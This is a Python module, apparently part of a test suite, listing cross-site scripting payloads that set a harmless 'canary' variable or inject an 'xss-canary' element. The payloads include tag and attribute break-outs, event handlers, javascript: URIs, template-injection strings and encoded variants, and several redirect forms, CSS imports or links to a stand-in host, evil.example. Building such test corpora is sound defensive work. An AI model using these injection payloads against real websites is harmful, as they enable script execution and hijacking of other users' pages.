"""Texts that become something else where somebody forgets to escape: elements, attributes, scripts, templates.

Each leaves a trace in the page when it is taken for HTML: an element `xss-canary`, or `window.canary` when it even runs.
"""

ELEMENT = "<xss-canary>"

CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "</select>{}",
    "</noscript>{}",
    "</svg>{}",
    "</template>{}",
    "</option></datalist>{}",
    "<b>{}",
)
"""What closes the place where the text stands."""
BODIES = (
    ELEMENT,
    "<xss-canary onfocus=canary=1 autofocus tabindex=0>",
    "<img src=x onerror=canary=1><xss-canary>",
    "<svg onload=canary=1><xss-canary>",
)
LOOSE = (
    '" onmouseover=canary=1 autofocus onfocus=canary=1 x="',
    "' onfocus=canary=1 autofocus x='",
    "javascript:canary=1",
    "JaVaScRiPt&colon;canary=1",
    "\u00a0javascript:canary=1//",
    "data:text/html,<script>canary=1</script>",
    "{{constructor.constructor('canary=1')()}}",
    "${canary=1}",
    "<%= canary=1 %>",
    "<a href=javascript:canary=1 id=xss-link>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><xss-canary>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<style>@import '//evil.example/x.css'</style><xss-canary>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mi xlink:href=javascript:canary=1><xss-canary>",
    "<xss-canary style=position:fixed;inset:0>",
    "&lt;xss-canary&gt;",
    "&#60;xss-canary&#62;",
    "\\u003cxss-canary\\u003e",
    "\\x3cxss-canary\\x3e",
    "%3Cxss-canary%3E",
    "＜xss-canary＞<xss-canary>",
    "<xss-canary/hx-get=/ hx-trigger=load>",
    "'-canary=1-'",
    '";canary=1;//',
    '=HYPERLINK("//evil.example")',
    "<!--#exec cmd=x--><xss-canary>",
    "<details open ontoggle=canary=1><xss-canary>",
)
PAYLOADS = (*(context.format(body) for context in CONTEXTS for body in BODIES[:2]), *BODIES[2:], *LOOSE)
"""Each is shorter than a name may be."""

BREAKOUT = "'\"></title></textarea></script></style>--><img src=x onerror=canary=1><xss-canary>"
"""One for places of which there is only one."""
